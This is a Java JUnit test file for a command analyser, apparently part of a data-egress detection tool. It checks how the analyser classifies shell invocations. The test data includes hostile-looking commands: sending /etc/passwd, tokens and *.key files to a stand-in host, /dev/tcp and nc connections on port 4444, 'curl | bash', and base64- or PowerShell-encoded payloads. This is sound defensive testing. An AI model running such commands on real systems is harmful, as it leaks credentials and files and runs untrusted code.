package dev.egressguard.engine.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * argv → what the analyser finds, rendered compactly:
 * {@code tool(H|R) dest,dest [payload,payload]} per invocation, joined with " ; ", then " #OBF" when obfuscated.
 * H = HTTP tool (T1567), R = raw network tool (T1048). A payload is its location, then '*' for a
 * credential slot and '!' when not inspectable.
 */
class CommandAnalyzerCasesTest {
    private static final CommandAnalyzer ANALYZER = new CommandAnalyzer(64 * 1024);

    static String render(CommandAnalysis a) {
        List<String> parts = new ArrayList<>();
        for (NetworkInvocation inv : a.invocations()) {
            String payloads = inv.payloads().stream()
                    .map(p -> p.location() + (p.credentialSlot() ? "*" : "") + (p.inspectable() ? "" : "!"))
                    .collect(Collectors.joining(","));
            parts.add(inv.tool() + (inv.http() ? "(H)" : "(R)") + " " + String.join(",", inv.destinations()) + " [" + payloads + "]");
        }
        String s = String.join(" ; ", parts);
        if (a.isObfuscated()) s = (s.isEmpty() ? "" : s + " ") + "#OBF";
        return s;
    }

    static Arguments c(String expected, String... argv) {
        return Arguments.of(List.of(argv), expected);
    }

    static Stream<Arguments> cases() {
        return Stream.of(
                // plain curl
                c("curl(H) https://x.example/ []", "curl", "https://x.example"),
                c("curl(H) https://x.example/a/b?q=1 []", "/usr/bin/curl", "-s", "https://X.Example:443/a/b?q=1#frag"),
                c("curl(H) http://example.com/x []", "curl", "example.com/x"),
                c("curl(H) http://example.com:8080/ []", "curl", "http://example.com:8080"),
                c("curl(H) https://x.example/ [arg:2]", "curl", "-d", "a=1", "https://x.example"),
                c("curl(H) https://x.example/ [arg:1]", "curl", "-da=1", "https://x.example"),
                c("curl(H) https://x.example/ [arg:1]", "curl", "--data=a=1", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "curl", "--data-raw", "@notafile", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2,arg:4]", "curl", "--json", "{\"a\":1}", "-F", "name=value", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "curl", "--data-urlencode", "q=hello world", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "curl", "--url-query", "a=b", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "curl", "--form-string", "a=@b", "https://x.example"),
                c("curl(H) https://x.example/ [arg:4]", "curl", "-X", "POST", "-d", "z", "https://x.example"),
                // credential slots
                c("curl(H) https://x.example/ [arg:2*]", "curl", "-H", "Authorization: Bearer abc", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "curl", "-H", "X-Trace: abc", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2*]", "curl", "--header", "x-api-key: k", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2*]", "curl", "-u", "user:pw", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2*]", "curl", "-b", "session=abc", "https://x.example"),
                c("curl(H) https://x.example/ [arg:1*]", "curl", "--cookie=session=abc", "https://x.example"),
                c("curl(H) https://x.example/ [arg:1*]", "curl", "https://user:pw@x.example"),
                // proxies, resolve, connect-to are not destinations
                c("curl(H) https://x.example/ []", "curl", "-x", "http://proxy.internal:3128", "https://x.example"),
                c("curl(H) https://x.example/ []", "curl", "--proxy", "proxy:1", "--resolve", "x.example:443:1.2.3.4",
                        "--connect-to", "x.example:443:evil.example:443", "https://x.example"),
                c("curl(H) https://x.example/ []", "curl", "--url", "https://x.example", "-o", "out.html"),
                c("curl(H) https://a.example/,https://b.example/ []", "curl", "https://a.example", "https://b.example"),
                // stdin payloads
                c("curl(H) https://x.example/ [stdin!]", "curl", "-d", "@-", "https://x.example"),
                c("curl(H) https://x.example/ [stdin!]", "curl", "-T", "-", "https://x.example"),
                c("curl(H) https://x.example/ [stdin!]", "sh", "-c", "cat f | curl -d @- https://x.example"),
                c("curl(H) https://x.example/ [stdin]", "sh", "-c", "curl -d @- https://x.example <<EOF\nhello\nEOF"),
                c("curl(H) https://x.example/ [stdin]", "sh", "-c", "echo hi | curl --data-binary @- https://x.example"),
                c("curl(H) https://x.example/ [stdin]", "bash", "-c", "curl -d @- https://x.example <<< 'text'"),
                // wrappers
                c("curl(H) https://x.example/ [arg:12]", "sudo", "-u", "x", "env", "A=b", "timeout", "5", "nice", "-n", "5", "curl", "-d", "v", "https://x.example"),
                c("curl(H) https://x.example/ []", "nohup", "stdbuf", "-oL", "curl", "https://x.example"),
                c("curl(H) https://x.example/ []", "timeout", "-s", "KILL", "10s", "curl", "https://x.example"),
                c("wget(H) https://x.example/ []", "busybox", "wget", "https://x.example"),
                c("wget(H) https://x.example/ []", "doas", "-u", "root", "wget", "https://x.example"),
                c("curl(H) https://x.example/ []", "command", "exec", "time", "-p", "curl", "https://x.example"),
                c("", "command", "-v", "curl"),
                c("curl(H)  [stdin!]", "xargs", "-n", "1", "curl"),
                c("curl(H) https://x.example/ [stdin!]", "sh", "-c", "cat urls | xargs -I{} curl https://x.example"),
                c("curl(H) https://x.example/ []", "C:\\Windows\\System32\\curl.exe", "https://x.example"),
                // commands that run other commands
                c("curl(H) https://x.example/ [arg:2]", "su", "-c", "curl -d x https://x.example", "root"),
                c("curl(H) https://x.example/ []", "watch", "-n", "5", "curl", "-s", "https://x.example"),
                c("curl(H) https://x.example/ [file:{}!]", "find", ".", "-name", "*.key", "-exec", "curl", "-F", "f=@{}", "https://x.example", ";"),
                c("wget(H) https://x.example/ []", "flock", "/tmp/l", "-c", "wget https://x.example"),
                c("curl(H) https://x.example/ []", "chroot", "/srv", "curl", "https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "env", "-S", "curl -d a https://x.example"),
                c("curl(H) https://x.example/i.sh [] #OBF", "sh", "-c", "bash <(curl -s https://x.example/i.sh)"),
                // shells
                c("curl(H) https://x.example/ [file:/etc/passwd]", "bash", "-lc", "cd /tmp && curl -d @/etc/passwd https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "sh", "-ec", "curl -d 'a b' https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "bash", "-c", "curl -d \"$1\" https://x.example", "argv0", "secret"),
                c("curl(H) https://x.example/ []", "bash", "-o", "pipefail", "-c", "curl https://x.example | tee out"),
                c("curl(H) https://x.example/ [arg:2]", "zsh", "-c", "U=https://x.example; D=data; curl -d \"$D\" $U"),
                c("curl(H) https://x.example/ []", "sh", "-c", "(cd /tmp; { curl https://x.example; })"),
                c("curl(H) https://x.example/ []", "sh", "-c", "if true; then curl https://x.example; fi"),
                c("curl(H) https://x.example/ []", "sh", "-c", "for i in 1 2; do curl https://x.example; done"),
                c("curl(H) https://x.example/ []", "sh", "-c", "case $x in a) curl https://x.example;; *) echo no;; esac"),
                c("curl(H) https://x.example/ []", "sh", "-c", "f() { curl https://x.example; }; f"),
                c("curl(H) https://x.example/ [arg:2]", "sh", "-c", "curl -d $'a\\tb\\x41\\u00e9\\101\\'' https://x.example"),
                c("curl(H) https://x.example/ [arg:2]", "sh", "-c", "c\\url -d \"a\\\"b\\$c\" 'https://x.example' # comment"),
                c("curl(H) https://x.example/ []", "sh", "-c", "curl \\\n https://x.example"),
                c("curl(H) https://x.example/ []", "dash", "-c", "FOO=bar curl https://x.example 2>&1 >/dev/null"),
                c("curl(H) https://x.example/ [arg:2!]", "sh", "-c", "curl -d \"$(cat /etc/passwd)\" https://x.example"),
                c("curl(H) https://x.example/ [arg:2!]", "sh", "-c", "curl -d \"token=$TOKEN\" https://x.example"),
                c("", "ls", "-la"),
                c("", "git", "status"),
                c("", "sh", "-c", "ls -la && git status | grep x"),
                c("", "bash", "-c", "[[ $x =~ ^(a|b)$ && -n \"$y\" ]] && (( z = (1+2)*3 )) && echo ok"),
                c("curl(H) https://x.example/ []", "bash", "-c", "[[ -f /tmp/x ]] || curl https://x.example"),
                c("/dev/tcp(R) tcp://x.example:4444/ [file:/no/such!]", "bash", "-c", "cat /no/such > /dev/tcp/x.example/4444"),
                c("/dev/tcp(R) tcp://10.0.0.9:80/ [stdin!]", "bash", "-c", "exec 3<>/dev/tcp/10.0.0.9/80; echo hi >&3"),
                c("/dev/udp(R) udp://x.example:53/ [arg:2]", "bash", "-c", "echo data > /dev/udp/x.example/53"),
                c("openssl(R) tcp://x.example:443/ [stdin]", "sh", "-c", "echo hi | openssl s_client -quiet -connect x.example:443"),
                c("", "openssl", "rand", "-hex", "16"),
                // obfuscation
                c("#OBF", "sh", "-c", "echo Y3VybCBodHRwczovL3guZXhhbXBsZQ== | base64 -d | sh"),
                c("curl(H) https://x.example/ [] #OBF", "sh", "-c", "curl https://x.example | bash"),
                c("#OBF", "sh", "-c", "$(echo curl) https://x.example"),
                c("#OBF", "sh", "-c", "`echo curl` https://x.example"),
                c("curl(H) https://x.example/ [] #OBF", "sh", "-c", "c=curl; $c https://x.example"),
                c("curl(H) https://x.example/ [] #OBF", "sh", "-c", "eval 'curl https://x.example'"),
                c("curl(H) https://x.example/ [] #OBF", "sh", "-c", "source <(curl https://x.example)"),
                c("curl(H) https://x.example/ [arg:2] #OBF", "sh", "-c", "curl${IFS}-d${IFS}x${IFS}https://x.example"),
                c("curl(H)  [] #OBF", "sh", "-c", "curl 'https://x.example"),
                c("#OBF", "bash", "-c", "$X"),
                c("#OBF", "bash"),
                c("curl(H) https://x.example/ []", "sh", "-c", "echo 'curl https://x.example' | sh"),
                c("curl(H) https://x.example/ []", "sh", "-c", "sh <<'EOF'\ncurl https://x.example\nEOF"),
                c("wget(H) https://x.example/i.sh [] #OBF", "sh", "-c", "wget -qO- https://x.example/i.sh | python3"),
                // other tools
                c("wget(H) https://x.example/ [arg:1]", "wget", "--post-data=a=1", "https://x.example"),
                c("wget(H) https://x.example/ [arg:2*,arg:3*]", "wget", "--header", "Cookie: a=b", "--user=u", "https://x.example"),
                c("wget(H) http://x.example/ []", "wget", "-qO-", "x.example"),
                c("nc(R) tcp://x.example:4444/ [stdin!]", "nc", "x.example", "4444"),
                c("nc(R) udp://10.0.0.1:53/ [stdin!]", "nc", "-u", "-w", "1", "10.0.0.1", "53"),
                c("nc(R) tcp://x.example:9/ [stdin]", "sh", "-c", "echo secret | nc x.example 9"),
                c("ncat(R) tcp://x.example:443/ [stdin!]", "ncat", "--ssl", "x.example", "443"),
                c("socat(R) tcp://x.example:80/ [stdin!]", "socat", "-", "TCP:x.example:80"),
                c("socat(R) tcp://x.example:443/ [stdin!]", "socat", "STDIO", "OPENSSL:x.example:443,verify=0"),
                c("telnet(R) telnet://x.example/ []", "telnet", "x.example", "23"),
                c("ssh(R) ssh://host.example:2222/ [arg:4]", "ssh", "-p", "2222", "me@host.example", "cat /etc/hosts"),
                c("scp(R) ssh://host.example/ [file:/nonexistent/a!]", "scp", "/nonexistent/a", "me@host.example:/tmp/"),
                c("scp(R) ssh://host.example:2200/ []", "scp", "-P", "2200", "me@host.example:/tmp/a", "."),
                c("sftp(R) ssh://host.example/ []", "sftp", "me@host.example"),
                c("rsync(R) ssh://host.example/ [file:/nonexistent/dir!]", "rsync", "-avz", "/nonexistent/dir", "me@host.example:/backup"),
                c("rsync(R) rsync://host.example/ []", "rsync", "rsync://host.example/module/", "."),
                c("ftp(R) ftp://ftp.example/ []", "ftp", "-n", "ftp.example"),
                c("tftp(R) tftp://10.0.0.2/ [file:/nonexistent/f!]", "tftp", "10.0.0.2", "-c", "put", "/nonexistent/f"),
                c("http(H) https://x.example/ [arg:3,arg:4*,arg:5]", "http", "POST", "https://x.example", "name=v", "Authorization:Bearer x", "n:=1"),
                c("http(H) http://localhost:3000/api []", "http", ":3000/api"),
                c("https(H) https://x.example/ []", "https", "x.example"),
                c("aria2c(H) https://x.example/f []", "aria2c", "-x", "4", "https://x.example/f"),
                c("powershell(H) https://x.example/ [arg:2]", "powershell", "-Command",
                        "$wc = New-Object Net.WebClient; $wc.UploadString('https://x.example', 'data')"),
                c("invoke-webrequest(H) https://x.example/ [arg:3]", "powershell", "-NoProfile", "-Command",
                        "Invoke-WebRequest -Uri https://x.example -Method Post -Body 'a=1'"),
                c("iwr(H) https://x.example/ [arg:2]", "pwsh", "-c", "iwr https://x.example -Body 'a=1'"),
                c("invoke-restmethod(H) https://x.example/ [arg:3*]", "pwsh", "-NoLogo", "-Command", "Invoke-RestMethod", "-Uri",
                        "https://x.example", "-Headers", "@{Authorization='Bearer x'}"),
                c("invoke-restmethod(H) https://x.example/ [arg:2*]", "pwsh", "-Command",
                        "Invoke-RestMethod -Uri https://x.example -Headers @{Authorization='Bearer x'}"),
                c("invoke-webrequest(H) https://x.example/ [arg:4]", "Invoke-WebRequest", "-Uri", "https://x.example", "-Body", "x=1"),
                c("#OBF", "powershell", "-enc", "SQBFAFgAIAAoACcAeAAnACkA"),
                c("irm(H) https://x.example/ [arg:2]", "pwsh", "-c", "$U = 'https://x.example'; $B = \"ssn=1\"; irm $U -Method Post -Body $B"),
                c("python3(H) https://x.example/ [arg:2]", "python3", "-c", "import urllib.request as u; u.urlopen('https://x.example', b'data')"),
                c("python(H) tcp://10.0.0.1:4444/ [arg:2]", "python", "-c", "import socket;s=socket.socket();s.connect(('10.0.0.1',4444))"),
                c("", "python3", "-c", "print(1+1)"),
                c("perl(H) tcp://x.example:80/ [arg:2]", "perl", "-e", "use IO::Socket; IO::Socket::INET->new(PeerAddr=>'x.example:80')"),
                c("ruby(H) https://x.example/ [arg:3]", "ruby", "-rnet/http", "-e", "Net::HTTP.get(URI('https://x.example'))"),
                c("node(H) https://x.example/ [arg:2]", "node", "-e", "fetch('https://x.example',{method:'POST'})"),
                c("php(H) https://x.example/ [arg:2]", "php", "-r", "file_get_contents('https://x.example');"),
                // Windows cmd
                c("curl(H) https://x.example/ [arg:2]", "cmd.exe", "/c", "curl -d secret https://x.example & echo done"),
                c("curl(H) https://x.example/ [arg:4]", "cmd", "/C", "curl", "-d", "v", "https://x.example"),
                c("curl(H) https://x.example/ [stdin!]", "cmd", "/c", "type f.txt | curl -d @- https://x.example"),
                c("curl(H) https://x.example/ []", "cmd", "/c", "start \"\" /b curl.exe https://x.example"),
                c("wget(H) https://x.example/ [] #OBF", "cmd", "/c", "powershell -enc AAAA & wget https://x.example")
        );
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("cases")
    void analyses(List<String> argv, String expected) {
        CommandAnalysis a = ANALYZER.analyze(argv, null);
        assertEquals(expected, render(a));
        for (NetworkInvocation inv : a.invocations()) {
            for (Payload p : inv.payloads()) {
                if (p.argIndex() >= 0) {
                    assertTrue(argv.get(p.argIndex()).contains(p.text()), "payload text is verbatim in argv[argIndex]");
                }
            }
        }
    }
}
